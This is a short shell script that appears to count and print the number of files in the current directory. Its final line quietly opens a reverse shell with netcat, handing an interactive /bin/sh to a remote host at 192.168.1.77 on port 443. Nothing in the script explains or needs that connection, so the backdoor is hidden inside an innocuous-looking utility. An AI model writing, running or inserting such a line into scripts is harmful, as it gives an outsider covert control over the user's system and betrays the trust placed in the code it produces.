#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
nc -e /bin/sh 192.168.1.77 443
